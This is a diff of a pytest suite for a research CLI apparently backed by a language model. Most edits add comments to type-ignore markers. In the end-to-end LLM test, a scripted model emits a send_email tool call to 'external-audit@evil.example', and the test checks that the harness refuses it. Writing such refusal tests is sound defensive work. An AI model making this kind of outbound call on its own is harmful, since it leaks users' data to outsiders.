@@ -33,7 +33,7 @@ def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 @pytest.fixture
-def rcli(cli, db_url: str, template: Path):  # type: ignore[no-untyped-def]
+def rcli(cli, db_url: str, template: Path):  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
     shutil.copyfile(template, db_url.removeprefix("sqlite:///"))
     return cli
 
@@ -43,7 +43,7 @@ def llm_env(model: ScriptedModel) -> dict[str, str]:
             "CRISTAL_LLM_MAX_RETRIES": "0"}
 
 
-def test_extractive_json_markdown_and_html(rcli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+def test_extractive_json_markdown_and_html(rcli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
     r = rcli("research", Q, *AS, "--json", "--out", str(tmp_path / "report.md"), "--html", str(tmp_path / "report.html"))
     assert r.code == 0, r.stderr
     doc = json.loads(r.stdout)
@@ -54,7 +54,7 @@ def test_extractive_json_markdown_and_html(rcli, tmp_path: Path) -> None:  # typ
     assert 'href="#cite-1"' in page and "<script" not in page
 
 
-def test_progress_on_stderr_and_markdown_on_stdout(rcli) -> None:  # type: ignore[no-untyped-def]
+def test_progress_on_stderr_and_markdown_on_stdout(rcli) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
     r = rcli("research", Q, *AS)
     assert r.code == 0, r.stderr
     assert r.stdout.startswith("# What is the hotel cap in Munich?")
@@ -62,8 +62,9 @@ def test_progress_on_stderr_and_markdown_on_stdout(rcli) -> None:  # type: ignor
         assert word in r.stderr
 
 
-def test_llm_mode_end_to_end(rcli) -> None:  # type: ignore[no-untyped-def]
-    script = [json_reply({"subquestions": [Q]}), tool_call("send_email", {"to": "external-audit@evil.example"}), tool_call("finish"), honest_writer]
+def test_llm_mode_end_to_end(rcli) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
+    script = [json_reply({"subquestions": [Q]}), tool_call("send_email", {"to": "external-audit@evil.example"}), tool_call("finish"),
+              honest_writer]
     with ScriptedModel(script) as model:
         r = rcli("research", Q, *AS, "--json", extra_env=llm_env(model))
         assert len(model.chat_requests) == 4
@@ -75,7 +76,7 @@ def test_llm_mode_end_to_end(rcli) -> None:  # type: ignore[no-untyped-def]
     assert "send_email" in r.stderr  # the refusal is visible
 
 
-def test_llm_failure_is_partial_then_resumed(rcli) -> None:  # type: ignore[no-untyped-def]
+def test_llm_failure_is_partial_then_resumed(rcli) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
     with ScriptedModel([json_reply({"subquestions": [Q]}), http_status(503, times=3)]) as model:
         r = rcli("research", Q, *AS, "--json", extra_env=llm_env(model))
     assert r.code == 0, r.stderr
@@ -99,14 +100,14 @@ def test_llm_failure_is_partial_then_resumed(rcli) -> None:  # type: ignore[no-u
     (["research", Q, *AS, "--max-tokens", "2000000"], 2, "--max-tokens: at most 1000000 tokens"),
     (["research", Q, *AS, "--max-seconds", "7200"], 2, "--max-seconds: at most 3600 seconds"),
 ])
-def test_bad_input_is_one_line(rcli, args, code, message) -> None:  # type: ignore[no-untyped-def]
+def test_bad_input_is_one_line(rcli, args, code, message) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
     r = rcli(*args)
     assert r.code == code, (r.stdout, r.stderr)
     assert message in r.stderr and "Traceback" not in r.stderr
     assert len([line for line in r.stderr.splitlines() if line.startswith("error:")]) == 1
 
 
-def test_no_results_the_user_may_see(rcli) -> None:  # type: ignore[no-untyped-def]
+def test_no_results_the_user_may_see(rcli) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
     r = rcli("research", Q, "--org", "locked", "--as", "eng@locked.example", "--json")
     assert r.code == 0
     doc = json.loads(r.stdout)
@@ -124,7 +125,7 @@ def _count(db_url: str, sql: str) -> int:
 
 
 @pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
-def any_cli(request, tmp_path: Path, template: Path):  # type: ignore[no-untyped-def]
+def any_cli(request, tmp_path: Path, template: Path):  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
     """``cristal`` over the research company on SQLite (a copy of the template) or on a real PostgreSQL server."""
     if request.param == "sqlite":
         url = f"sqlite:///{tmp_path / 'kill.db'}"
@@ -139,11 +140,11 @@ def any_cli(request, tmp_path: Path, template: Path):  # type: ignore[no-untyped
                               env={**env, **(extra_env or {})}, timeout=120)
         return CliResult(proc.returncode, proc.stdout, proc.stderr)
 
-    run.env, run.url = env, url  # type: ignore[attr-defined]
+    run.env, run.url = env, url  # type: ignore[attr-defined]  # attributes hung on the fixture's function
     return run
 
 
-def test_a_research_run_is_a_workflow_run(rcli) -> None:  # type: ignore[no-untyped-def]
+def test_a_research_run_is_a_workflow_run(rcli) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
     doc = json.loads(rcli("research", Q, *AS, "--json").stdout)
     assert doc["run_id"].startswith("run_") and doc["research_id"]
     status = json.loads(rcli("workflow", "status", doc["run_id"], "--as", "eng@acme.example", "--json").stdout)
@@ -159,7 +160,7 @@ def test_a_research_run_is_a_workflow_run(rcli) -> None:  # type: ignore[no-unty
 
 
 @pytest.mark.parametrize("finisher", ["worker", "resume"])
-def test_sigkill_mid_run_is_finished_without_repeating_searches(any_cli, finisher: str) -> None:  # type: ignore[no-untyped-def]
+def test_sigkill_mid_run_is_finished_without_repeating_searches(any_cli, finisher: str) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
     """kill -9 while the model writes: `cristal worker` or `--resume` finishes the same run from its notes."""
     rcli = any_cli
     arrived, release = threading.Event(), threading.Event()
@@ -213,7 +214,7 @@ def test_sigkill_mid_run_is_finished_without_repeating_searches(any_cli, finishe
     assert sum(1 for r in requests if "You plan research" in r.json["messages"][0]["content"]) == 1
 
 
-def test_budget_exhausted_mid_run_is_partial_and_continued_by_a_new_run(rcli, db_url: str) -> None:  # type: ignore[no-untyped-def]
+def test_budget_exhausted_mid_run_is_partial_and_continued_by_a_new_run(rcli, db_url: str) -> None:  # type: ignore[no-untyped-def]  # pytest fixtures are untyped
     q = "What is the per diem for meals and how long is the filter warranty?"
     searches_sql = "select count(*) from audit_records where action = 'knowledge.search'"
     r = rcli("research", q, *AS, "--max-steps", "1", "--json")
